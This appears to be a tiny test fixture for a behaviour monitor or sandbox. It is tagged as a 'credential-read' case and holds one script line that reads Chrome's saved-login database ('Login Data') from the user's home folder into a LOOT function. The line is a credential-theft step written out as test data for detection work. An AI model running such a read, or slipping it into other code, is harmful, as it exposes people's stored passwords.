#: {"class": "credential-read", "loader": "script", "expect": [["open", "Login Data$"]], "effect": {"loot": "chrome"}}
LOOT(open(HOME + "/.config/google-chrome/Default/Login Data").read())
